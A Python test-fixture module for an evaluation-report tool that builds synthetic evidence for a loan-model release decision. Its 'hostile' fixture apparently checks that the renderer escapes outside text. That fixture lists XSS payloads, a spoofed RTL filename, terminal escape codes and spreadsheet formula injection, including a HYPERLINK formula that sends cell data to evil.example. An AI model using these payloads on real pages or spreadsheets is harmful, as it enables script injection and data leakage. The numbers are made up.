"""Evidences made of records alone, seeded: hold, ship, not yet, guardrails, empty, foreign names, many, hostile.

Numbers are drawn, not measured: they only have to look like evidence and obey its contract.
Load by path (see `conftest.py`): tests are no package.
"""

import math
import random
from collections.abc import Callable
from dataclasses import replace

from assay.core.check import CheckResult
from assay.core.estimate import Comparison, Estimate, Interval, MethodCard, Rule, Spread
from assay.core.evidence import Curve, Evidence, Example, ItemsBehind, RunBlock
from assay.core.figures import figure
from assay.core.item import Column, DatasetVersion, Part, Role, Source
from assay.core.ledger import Head
from assay.core.plan import Approval, Gate, GateKind, GateRole, Lock, Plan, SystemSpec
from assay.core.slices import SliceKey, SliceSpec, slice_text
from assay.core.verdict import Advice, Decision, Outcome, Recommendation, Verdict, Waiver

BASELINE, CANDIDATE = "rules-2025", "gradient-7"
HASH = "3f2a9c1d5e6b7a8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708"
KEY = "9b1c5d2e7f3a4b6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e"
METRICS = ("accuracy", "recall", "auroc", "log_loss")
LOWER_IS_BETTER = frozenset({"log_loss", "ece"})
FEW = "rests on 6 items; the gate asks for at least 30"
OPEN = "which leaves open whether it is within the margin of 0.01. At this value 2 120 items in all would settle it"
COUNTRIES = ("DE", "FR", "FI", "中国", "مصر", "日本")
NO_SPREAD = Spread(Rule.NONE)
RIGHT_TO_LEFT_OVERRIDE = "\u202e"
HOSTILE = (
    "<script>window.attacked = true</script>",
    "<img src=x onerror='window.attacked = true'>",
    "</script><script>window.attacked = true</script>",
    '"><svg onload=alert(1)>',
    f"invoice{RIGHT_TO_LEFT_OVERRIDE}gpj.exe",
    "\u2066isolated\u2069 and \u202aembedded\u202c",
    "\x1b[31mred\x1b[0m\x07\x00\x9b2J",
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1:9)",
    "\t=1+1",
    "![picture](https://evil.example/pixel.png) [link](javascript:alert(1)) | pipe ` tick @everyone #1",
    "]]> & <!-- --> {{ 7 * 7 }} {% raw %} [bold]rich[/bold]",
    "line\nbreak\r\nand\u2028separator",
    "\ud800 lone \ufffe \U000e0041tag",
)


def card(metric: str) -> MethodCard:
    """A method card of one metric."""
    return MethodCard(
        metric=metric,
        definition=f"{metric}: share of items answered right; 1 is all of them, 0 none.",
        interval="Wilson score interval with effective n.",
        variance="Clusters of user_id (412), with the small-cluster correction CR1.",
        options=(("positive", "approved"), ("ties", "half"), ("seed", "7")),
        notes=("12 items without a label were left out.",),
    )


CARDS = {metric: card(metric) for metric in (*METRICS, "ece", "observed share")}


def estimate(
    metric: str, system: str, value: float | None, *, key: SliceKey = (), n: int = 4000, shrunk: bool = False
) -> Estimate:
    """An estimate with a plausible interval; none below 10 items, with the reason."""
    if value is None or n == 0:
        return Estimate(metric, key, system, None, None, 0.95, n, None, "no_items", NO_SPREAD, CARDS[metric])
    if n < 10:
        return Estimate(metric, key, system, value, None, 0.95, n, None, "too_few_items", NO_SPREAD, CARDS[metric])
    half = 1.96 * math.sqrt(0.16 / n)
    interval = Interval(max(0.0, value - half), min(1.5, value + half * 0.95))
    spread = Spread(Rule.WILSON, half / 1.96, n * 0.8)
    towards = 0.8 + (value - 0.8) * n / (n + 60) if shrunk else None
    pulled = None if towards is None else Interval(towards - half * 0.8, towards + half * 0.8)
    return Estimate(
        metric, key, system, value, interval, 0.95, n, n * 0.8, None, spread, CARDS[metric],
        shrunk=towards, shrunk_interval=pulled, stable=n >= 100 if shrunk else None,
    )  # fmt: skip


def comparison(baseline: Estimate, candidate: Estimate) -> Comparison:
    """The paired difference of two estimates."""
    higher = baseline.metric not in LOWER_IS_BETTER
    n = min(baseline.n, candidate.n)
    common = (baseline.metric, baseline.slice, baseline, candidate)
    if baseline.value is None or candidate.value is None:
        return Comparison(*common, None, None, 0.95, n, None, "no_items", NO_SPREAD, baseline.method, higher)
    difference = candidate.value - baseline.value
    if candidate.interval is None:
        return Comparison(*common, difference, None, 0.95, n, None, "too_few_items", NO_SPREAD, baseline.method, higher)
    half = 1.96 * math.sqrt(0.05 / n)
    interval = Interval(difference - half, difference + half)
    spread = Spread(Rule.PAIRED, half / 1.96, n * 0.8, low=-1.0)
    return Comparison(
        *common, difference, interval, 0.95, n, n * 0.8, None, spread, baseline.method, higher, p_value=0.03
    )


def pair(
    metric: str, values: tuple[float, float], *, key: SliceKey = (), n: int = 4000
) -> tuple[Estimate, Estimate, Comparison]:
    """Baseline, candidate and their comparison."""
    baseline = estimate(metric, BASELINE, values[0], key=key, n=n, shrunk=bool(key))
    candidate = estimate(metric, CANDIDATE, values[1], key=key, n=n, shrunk=bool(key))
    return baseline, candidate, comparison(baseline, candidate)


GATES = (
    Gate("no worse overall", GateKind.NON_INFERIORITY, GateRole.CORE, "accuracy", margin=0.01),
    Gate("log loss no worse", GateKind.NON_INFERIORITY, GateRole.GUARDRAIL, "log_loss", margin=0.02),
    Gate("recall floor", GateKind.THRESHOLD, GateRole.GUARDRAIL, "recall", accept=0.75, fail=0.75),
    Gate(
        "recall in each country", GateKind.WORST_SLICE, GateRole.SLICE, "recall",
        by=SliceSpec(("country",)), accept=0.7, fail=0.7,
    ),
    Gate("clean data", GateKind.CHECK, GateRole.GUARDRAIL, check="duplicates"),
)  # fmt: skip


def plan(name: str = "loan-release", gates: tuple[Gate, ...] = GATES) -> Plan:
    """The plan of all examples."""
    return Plan(
        name=name,
        purpose="Decide whether the new model replaces the rules for small loans.",
        tier="standard",
        dataset=f"loans@{HASH[:12]}",
        baseline=SystemSpec(BASELINE),
        candidate=SystemSpec(CANDIDATE),
        metrics=METRICS,
        gates=gates,
        slices=(SliceSpec(("country",)), SliceSpec(("country", "device"))),
        positive="approved",
        cluster="user_id",
        reviewers=("lead",),
        author="mina",
    )


def lock(of: Plan) -> Lock:
    """The plan locked and approved."""
    approval = Approval(HASH, "lead", "2026-11-20T09:30:00.000000Z")
    return Lock(of, "assay: 1\n", HASH, "2026-11-20T10:00:00.000000Z", "mina", approvals=(approval,))


def dataset() -> DatasetVersion:
    """A dataset version."""
    columns = (
        Column("id", "text", Role.ID),
        Column("label", "text", Role.LABEL),
        Column("country", "text", Role.SLICE),
    )
    return DatasetVersion("loans", columns, (Part(HASH, HASH, 4000, 90_000),), 4000, Source("loans.csv", HASH, "csv"))


def run() -> RunBlock:
    """A run at a fixed time."""
    head = Head(128, HASH[::-1], "2026-11-22T14:05:00.000000Z", KEY, "ab" * 64)
    return RunBlock("2026-11-22T14:04:10.000000Z", "2026-11-22T14:05:00.000000Z", 127, head, "0.1.0.dev0")


CHECKS = (
    CheckResult("duplicates", True, "No item stands twice.", "", 0),
    CheckResult(
        "missing", False, "37 of 4 000 items have no country.", "Fill the column or cut on another one.", 37,
        items=tuple(f"loan-{n:05d}" for n in range(37)), columns=("country",),
    ),
)  # fmt: skip


def curve(system: str, *, seed: int) -> Curve:
    """A reliability curve of ten bins, one of them empty and one too small for an interval."""
    draw = random.Random(seed)
    edges = tuple(step / 10 for step in range(11))
    counts = [820, 610, 420, 300, 260, 240, 310, 0, 5, 790]
    means = tuple(
        None if n == 0 else edge + 0.05 + draw.uniform(-0.02, 0.02) for edge, n in zip(edges, counts, strict=False)
    )
    seen = tuple(
        estimate("observed share", system, None if mean is None else min(0.97, max(0.03, mean**1.2 + 0.02)), n=n)
        for mean, n in zip(means, counts, strict=True)
    )
    return Curve(system, edges, means, seen)


def verdict_on(c: Comparison, gate: Gate, outcome: Outcome, tail: str, needed: int | None = None) -> Verdict:
    """A verdict of a non-inferiority gate; its sentence ends with ``tail``."""
    wide = None if c.interval is None else Interval(c.interval.low * 1.1 - 0.001, c.interval.high * 1.1 + 0.001)
    why = f"{c.metric.capitalize()} differs by {figure(c.difference, wide)}, {tail}."
    return Verdict(
        gate.name, gate.kind, gate.role, outcome, why, c.metric, c.slice, c.difference, wide, 0.0125,
        accept=-(gate.margin or 0), fail=-(gate.margin or 0), n=c.n, items_needed=needed,
        reason="interval_spans_threshold" if outcome is Outcome.INCONCLUSIVE else None,
    )  # fmt: skip


def verdict_of(e: Estimate, gate: Gate, outcome: Outcome, tail: str, needed: int | None = None) -> Verdict:
    """A verdict of a threshold or a worst-slice gate; its sentence ends with ``tail``."""
    reason = (e.reason or "interval_spans_threshold") if outcome is Outcome.INCONCLUSIVE else None
    place = f" on {slice_text(e.slice)}" if e.slice else ""
    shown = f"is {figure(e.value, e.interval)}, " if e.value is not None and e.interval else ""
    return Verdict(
        gate.name, gate.kind, gate.role, outcome, f"{e.metric.capitalize()}{place} {shown}{tail}.", e.metric, e.slice,
        e.value, e.interval, 0.0125, accept=gate.accept, fail=gate.fail, n=e.n, items_needed=needed, reason=reason,
    )  # fmt: skip


def behind(gate: str, key: SliceKey, *, n: int = 12, total: int = 240, label: str = "loan") -> ItemsBehind:
    """Items behind one slice: the wrong first."""
    examples = tuple(
        Example(f"{label}-{index:05d}", "approved", "approved", "declined" if index < n - 2 else "approved", index / 40)
        for index in range(n)
    )
    return ItemsBehind(gate, key, total, 71, examples)


def assemble(
    advice: Advice,
    why: str,
    verdicts: tuple[Verdict, ...],
    found: list[tuple[Estimate, Estimate, Comparison]],
    **changes: object,
) -> Evidence:
    """An evidence of these numbers."""
    gates = tuple(dict.fromkeys(v.gate for v in verdicts if v.outcome is not Outcome.PASS))
    needed = max((v.items_needed for v in verdicts if v.items_needed), default=None)
    recommendation = Recommendation(advice, why, gates, needed if advice is Advice.NOT_YET else None)
    evidence = Evidence(
        lock=lock(plan()),
        plan_state="locked",
        dataset=dataset(),
        reference_source="imported",
        sensitive_columns=("ssn",),
        estimates=tuple(e for b, c, _ in found for e in (b, c)),
        comparisons=tuple(c for _, _, c in found),
        checks=CHECKS,
        verdicts=verdicts,
        recommendation=recommendation,
        waivers=(),
        curves=(curve(BASELINE, seed=1), curve(CANDIDATE, seed=2)),
        items=tuple(behind(v.gate, v.slice) for v in verdicts if v.outcome is not Outcome.PASS and v.metric),
        looks=3,
        limits=("The items come from one quarter: nothing here speaks of seasons.",),
        seed=7,
        run=run(),
    )
    return replace(evidence, **changes)  # type: ignore[arg-type]


def overall() -> dict[str, tuple[Estimate, Estimate, Comparison]]:
    """All metrics on all items: the candidate is better."""
    values = {"accuracy": (0.861, 0.874), "recall": (0.81, 0.83), "auroc": (0.901, 0.924), "log_loss": (0.342, 0.331)}
    return {metric: pair(metric, both) for metric, both in values.items()}


def by_country(*, worst: float = 0.58, seed: int = 3) -> dict[str, tuple[Estimate, Estimate, Comparison]]:
    """Recall by country: one is served worse by the candidate."""
    draw = random.Random(seed)
    sizes = (1800, 1200, 240, 420, 180, 6)
    found = {}
    for country, n in zip(COUNTRIES, sizes, strict=True):
        baseline = 0.8 + draw.uniform(-0.02, 0.02)
        candidate = worst if country == "FI" else baseline + 0.03
        found[country] = pair("recall", (baseline, candidate), key=(("country", country),), n=n)
    return found


def hold() -> Evidence:
    """Better overall, and not for one country: hold."""
    whole, parts = overall(), by_country()
    verdicts = (
        verdict_on(whole["accuracy"][2], GATES[0], Outcome.PASS, "within the margin of 0.01"),
        verdict_on(whole["log_loss"][2], GATES[1], Outcome.PASS, "within the margin of 0.02"),
        verdict_of(whole["recall"][1], GATES[2], Outcome.PASS, "at least 0.75"),
        *(
            verdict_of(c, GATES[3], Outcome.FAIL, "below 0.7") if name == "FI"
            else verdict_of(c, GATES[3], Outcome.INCONCLUSIVE, FEW, 420) if name == "日本"
            else verdict_of(c, GATES[3], Outcome.PASS, "at least 0.7")
            for name, (_, c, _) in parts.items()
        ),
        Verdict(GATES[4].name, GATES[4].kind, GATES[4].role, Outcome.PASS, "No item stands twice."),
    )  # fmt: skip
    why = "Recall for country FI is 0.580 (0.529 to 0.628), below 0.70, and no waiver covers it."
    return assemble(Advice.HOLD, why, verdicts, [*whole.values(), *parts.values()])


def ship() -> Evidence:
    """Everything passes."""
    whole, parts = overall(), by_country(worst=0.84)
    found = [whole["accuracy"], whole["log_loss"]]
    verdicts = (
        *(verdict_on(c, g, Outcome.PASS, "within the margin") for (_, _, c), g in zip(found, GATES[:2], strict=True)),
        verdict_of(whole["recall"][1], GATES[2], Outcome.PASS, "at least 0.75"),
    )
    return assemble(
        Advice.SHIP, "Every gate passes.", verdicts, [*whole.values(), *list(parts.values())[:5]], items=(), looks=1
    )


def not_yet() -> Evidence:
    """The core gate cannot tell: more items are needed."""
    whole = {metric: pair(metric, (0.861, 0.863), n=600) for metric in METRICS}
    c = whole["accuracy"][2]
    verdicts = (verdict_on(c, GATES[0], Outcome.INCONCLUSIVE, OPEN, 2120),)
    return assemble(
        Advice.NOT_YET, "Accuracy may be more than 0.010 lower: the items cannot tell yet.", verdicts, [*whole.values()]
    )


def guardrails() -> Evidence:
    """A waived failure and an undecided slice: ship with guardrails, from an amended plan."""
    base = hold()
    waiver = Waiver(
        "waiver-12", HASH, "recall in each country", "FI is served by hand until March.", "mina", "lead",
        "2026-11-21T08:00:00.000000Z", "2027-03-31T00:00:00.000000Z", (("country", "FI"),),
    )  # fmt: skip
    old = replace(waiver, id="waiver-3", reason="Trial.", expires_at="2026-06-30T00:00:00.000000Z", slice=None)
    verdicts = tuple(replace(v, waiver=waiver.id) if v.outcome is Outcome.FAIL else v for v in base.verdicts)
    amended = replace(
        base.lock, amends=KEY, reason="The margin was copied from another plan.", content=HASH[::-1],
        changes=("Gate 'no worse overall': margin was 0.02, is 0.01.",),
    )  # fmt: skip
    why = "Ship, watching recall for country FI (waived to 2027-03-31) and 日本 (too few items)."
    recommendation = Recommendation(Advice.SHIP_WITH_GUARDRAILS, why, ("recall in each country",))
    return replace(
        base,
        verdicts=verdicts,
        waivers=(waiver, old),
        lock=amended,
        plan_state="amended",
        recommendation=recommendation,
    )


def many_slices(n_slices: int = 5000, *, seed: int = 11) -> Evidence:
    """Three metrics on thousands of slices, a worst-slice gate on each."""
    draw = random.Random(seed)
    whole = overall()
    found = [*whole.values()]
    verdicts: list[Verdict] = [verdict_on(whole["accuracy"][2], GATES[0], Outcome.PASS, "within the margin")]
    for index in range(n_slices):
        key = (("merchant", f"m{index:04d}"), ("device", draw.choice(("phone", "desktop", "tablet"))))
        n = int(10 ** draw.uniform(0.3, 3.3))
        base = min(0.95, max(0.4, draw.gauss(0.8, 0.06)))
        for metric in ("accuracy", "recall", "log_loss"):
            found.append(pair(metric, (base, min(0.98, base + draw.gauss(0.01, 0.03))), key=key, n=n))
        candidate = found[-2][1]
        outcome = _outcome_of(candidate)
        verdicts.append(verdict_of(candidate, GATES[3], outcome, "against 0.7", n * 4 if n < 30 else None))
    return assemble(Advice.HOLD, "Recall is below 0.70 on some merchants.", tuple(verdicts), found)


def _outcome_of(candidate: Estimate) -> Outcome:
    if candidate.interval is None or candidate.interval.low < 0.7 <= candidate.interval.high:
        return Outcome.INCONCLUSIVE
    return Outcome.PASS if candidate.interval.low >= 0.7 else Outcome.FAIL


def empty() -> Evidence:
    """Slices without items, no gates that speak, no curves, no checks: the page still says what is not there."""
    nothing = [pair("accuracy", (0.8, 0.8), n=0), pair("recall", (0.8, 0.8), key=(("country", "—"),), n=0)]
    verdict = verdict_of(nothing[0][1], GATES[2], Outcome.INCONCLUSIVE, "has no value: no items")
    return assemble(
        Advice.NOT_YET, "There is no item to judge.", (verdict,), nothing, checks=(), curves=(), items=(), limits=()
    )


def bare() -> Evidence:
    """Nothing at all was asked for."""
    return replace(
        empty(), estimates=(), comparisons=(), verdicts=(), lock=lock(plan(gates=())), plan_state="unlocked", looks=1,
        recommendation=Recommendation(Advice.NOT_YET, "The plan has no gates."),
    )  # fmt: skip


def long_names() -> Evidence:
    """Names of 200 characters, with and without blanks, in three scripts."""
    names = (
        "x" * 200,
        "a rather long merchant name " * 7 + "abcd",
        "数据标注与模型评估" * 22 + "中文",
        "طويل جدا " * 22,
    )
    base = hold()
    found = [pair("recall", (0.8, 0.78), key=(("merchant", name),), n=150) for name in names]
    verdicts = tuple(
        replace(verdict_of(c, GATES[3], Outcome.FAIL, "below 0.7"), gate=f"{c.slice[0][1]} gate") for _, c, _ in found
    )
    return replace(
        base,
        lock=lock(plan(name="n" * 200)),
        estimates=base.estimates + tuple(e for b, c, _ in found for e in (b, c)),
        comparisons=base.comparisons + tuple(c for _, _, c in found),
        verdicts=base.verdicts + verdicts,
        items=tuple(behind(v.gate, v.slice, label=v.slice[0][1]) for v in verdicts),
    )


def hostile() -> Evidence:
    """Every text from outside tries to do something, and one answer has five million characters."""
    base = hold()
    found = [pair("recall", (0.8, 0.6), key=((text, HOSTILE[-index]),), n=150) for index, text in enumerate(HOSTILE)]
    verdicts = tuple(
        replace(verdict_of(c, GATES[3], Outcome.FAIL, text), gate=text)
        for text, (_, c, _) in zip(HOSTILE, found, strict=True)
    )
    big = "=" + "A" * 5_000_000
    examples = tuple(Example(text, text, text, text, None) for text in HOSTILE)
    huge = ItemsBehind(verdicts[0].gate, verdicts[0].slice, 150, 60, (Example(big, big, None, big, 0.5),))
    all_text = " ".join(HOSTILE)
    checks = tuple(CheckResult(t, False, t, t, 1, (t,), (t,)) for t in HOSTILE)
    waivers = (Waiver(all_text, all_text, all_text, all_text, all_text, all_text, all_text, all_text),)
    of = plan(name=all_text)
    of = replace(of, purpose=all_text, dataset=all_text, baseline=SystemSpec(HOSTILE[0]), tier=HOSTILE[1])
    hostile_card = MethodCard(all_text, all_text, all_text, all_text, ((all_text, all_text),), (all_text,))
    extra = replace(found[0][2], method=hostile_card, slice=(), metric=HOSTILE[2])
    return replace(
        base,
        lock=replace(lock(of), locked_by=all_text, amends=HASH, reason=all_text, changes=HOSTILE),
        verdicts=base.verdicts + verdicts,
        comparisons=(*base.comparisons, extra, *(c for _, _, c in found)),
        estimates=base.estimates + tuple(e for b, c, _ in found for e in (b, c)),
        checks=checks,
        waivers=waivers,
        items=(huge, *(ItemsBehind(v.gate, v.slice, 150, 60, examples) for v in verdicts)),
        limits=HOSTILE,
        recommendation=Recommendation(Advice.HOLD, all_text, HOSTILE),
        curves=(curve_named(HOSTILE[0]),),
        sensitive_columns=HOSTILE,
        reference_source=HOSTILE[0],
    )


def curve_named(system: str) -> Curve:
    """A curve of a system with any name."""
    return replace(curve(CANDIDATE, seed=2), system=system)


def decision(advice: Advice = Advice.HOLD, reason: str = "Finland is served worse; we retrain first.") -> Decision:
    """A named person's decision."""
    return Decision(HASH, advice, "ana", reason, "2026-11-22T15:30:00.000000Z")


EXAMPLES: dict[str, Callable[[], Evidence]] = {
    "hold": hold,
    "ship": ship,
    "not_yet": not_yet,
    "guardrails": guardrails,
    "empty": empty,
    "bare": bare,
    "long_names": long_names,
    "hostile": hostile,
}
